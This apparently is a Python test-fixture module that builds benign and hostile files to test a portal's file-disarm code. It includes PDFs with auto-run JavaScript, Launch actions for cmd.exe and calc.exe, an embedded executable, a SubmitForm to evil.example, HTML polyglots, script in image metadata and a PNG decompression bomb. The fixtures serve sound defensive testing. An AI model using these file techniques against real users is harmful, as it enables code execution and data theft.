"""Real files for the tests, built here from their recipe (no binary blobs):
small valid PDFs, PNGs and JPEGs, and the hostile ones an outside attack run
sent as evidence. The harmless ones are given as the portal stores them
(already rebuilt by its disarm), so a file read back equals the file sent."""

from __future__ import annotations

import io
import zlib

import pikepdf
from PIL import Image

from portal.disputes.disarm import rebuild


def pdf(text: str = "evidence") -> bytes:
    """A one-page PDF whose page says `text` (in a content stream)."""
    doc = pikepdf.new()
    doc.add_blank_page(page_size=(200, 200))
    doc.pages[0].obj["/Contents"] = doc.make_stream(f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode())
    out = io.BytesIO()
    doc.save(out, deterministic_id=True)
    return out.getvalue()


def image(fmt: str, size: tuple[int, int] = (8, 8), colour: tuple[int, int, int] = (200, 30, 30), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, fmt, **save)
    return out.getvalue()


PDF = rebuild(pdf(), "application/pdf", "x").data
PNG = rebuild(image("PNG"), "image/png", "x").data
JPEG = rebuild(image("JPEG"), "image/jpeg", "x").data
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64


# -- hostile files -----------------------------------------------------------------
def pdf_with_open_action_javascript() -> bytes:
    doc = pikepdf.open(io.BytesIO(pdf()))
    action = doc.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    )
    doc.Root.OpenAction = action
    doc.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), action]))
    )
    doc.pages[0].obj.AA = pikepdf.Dictionary(O=action)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def pdf_with_launch_link_and_embedded_file() -> bytes:
    doc = pikepdf.open(io.BytesIO(pdf()))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 50, 50], A=launch)
    attachment = pikepdf.AttachedFileSpec(doc, b"MZ evil", filename="invoice.exe")
    doc.attachments["invoice.exe"] = attachment
    doc.pages[0].obj.Annots = doc.make_indirect(pikepdf.Array([doc.make_indirect(link)]))
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def pdf_html_polyglot() -> bytes:
    """A PDF that is also an HTML page: markup after the PDF's end, and in a
    comment inside it (readers tolerate both)."""
    body = pdf().replace(b"\n1 0 obj", b"\n%<html><script>alert(document.domain)</script>\n1 0 obj", 1)
    return body + b"\n<script>alert(2)</script></html>"


def html_then_pdf() -> bytes:
    """A polyglot with the markup first: not a PDF by its content."""
    return b"<html><script>alert(document.domain)</script><!--\n" + pdf() + b"\n--></html>"


def encrypted_pdf() -> bytes:
    doc = pikepdf.open(io.BytesIO(pdf()))
    out = io.BytesIO()
    doc.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


def png_with_script_in_a_text_chunk() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    return image("PNG", pnginfo=info)


def jpeg_header_then_junk() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"<script>alert(1)</script>" * 40


def png_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A PNG whose header claims width × height pixels of one grey byte
    each, with the compressed rows of a few lines only: small on disk, huge
    once decoded."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0])
    rows = zlib.compress(b"\x00" + b"\x00" * width, 9) * 1
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg_with_exif_orientation() -> bytes:
    """A JPEG 4 wide and 2 high whose EXIF says: turn it 90° to show it
    (orientation 6), with a camera make and a GPS position in the EXIF."""
    img = Image.new("RGB", (4, 2), (10, 200, 10))
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation
    exif[0x010F] = "Camera maker"
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def pdf_with_catalog_in_the_trailer() -> bytes:
    """The catalog written directly in the trailer (not a numbered object),
    with a Launch action on opening and JavaScript in its name tree."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"
    pages = b"<</Type/Pages/Kids[1 0 R]/Count 1>>"
    body = b"%PDF-1.7\n"
    offsets = []
    for n, obj in enumerate((page, pages), 1):
        offsets.append(len(body))
        body += f"{n} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 3\n0000000000 65535 f \n" + b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    root = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(calc.exe)>>"
        b"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert(1))>>]>>>>>>"
    )
    body += b"trailer\n<</Size 3/Root " + root + b">>\nstartxref\n" + str(xref).encode() + b"\n%%EOF\n"
    return body


def pdf_with_chained_actions() -> bytes:
    """A link whose action is a harmless GoTo, followed (/Next) by a Launch
    and a SubmitForm, and a javascript: URI link."""
    doc = pikepdf.open(io.BytesIO(pdf()))
    follow = pikepdf.Array(
        [
            pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
            pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")),
        ]
    )
    goto = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([doc.pages[0].obj, pikepdf.Name.Fit]), Next=follow)
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 50, 50], A=goto)
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))
    link2 = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 60, 50, 90], A=uri)
    doc.pages[0].obj.Annots = pikepdf.Array([link, link2])
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def jpeg_with_a_comment() -> bytes:
    return image("JPEG", comment=b"<script>alert(1)</script>")
